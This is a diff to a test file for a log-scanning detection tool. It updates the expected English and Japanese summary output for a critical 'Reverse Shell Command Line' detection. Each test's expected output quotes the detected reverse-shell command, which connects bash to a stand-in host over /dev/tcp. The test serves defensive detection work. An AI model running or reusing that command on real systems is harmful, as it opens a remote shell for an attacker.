@@ -133,14 +133,14 @@ test('the table', async (t) => {
 		const done = english(0, ['hunt', '--rules', RULES, path]);
 		assert.equal(done.out, '2026-11-21 01:02:03Z  critical       Reverse Shell Command Line  @pc-1\n'
 			+ `    ${path}:1  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n`);
-		assert.match(done.err, /^\d+ rules; 1 files, 1 events in \d+\.\d s \(\d+ events\/s\); 1 detections\n  critical: 1\n$/m);
+		assert.match(done.err, /^\d+ rules; 1 files, 1 events in \d+\.\d s \(\d+ events\/s\); 1 detections\nComputers with detections: 1\n  critical +1  ■+\n\nTactic \(ATT&CK\) .*\n  Execution +1\n  Command and Control +1\n\nMost frequent\n +1  critical +Reverse Shell/m);
 	});
 	await t.test('in Japanese, in columns', () => {
 		const done = hikeshi(['hunt', '--rules', RULES, path]);
 		assert.equal(done.status, 0, done.err);
 		assert.equal(done.out, '2026-11-21 01:02:03Z  重大           外部から遠隔操作するための接続（リバースシェル）  @pc-1\n'
 			+ `    ${path}:1  bash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n`);
-		assert.match(done.err, /^ルール \d+ 個、ファイル 1 個、イベント 1 件を .* 秒で検査（毎秒 \d+ 件）、検知 1 件\n  重大: 1\n$/);
+		assert.match(done.err, /^ルール \d+ 個、ファイル 1 個、イベント 1 件を .* 秒で検査（毎秒 \d+ 件）、検知 1 件\n検知のあったコンピューター: 1 台\n  重大 +1  ■+\n/);
 	});
 	await t.test('by the environment', () => {
 		assert.match(hikeshi(['hunt', '--rules', RULES, path], { env: { LANG: 'en_US.UTF-8' } }).out, /Reverse Shell/);
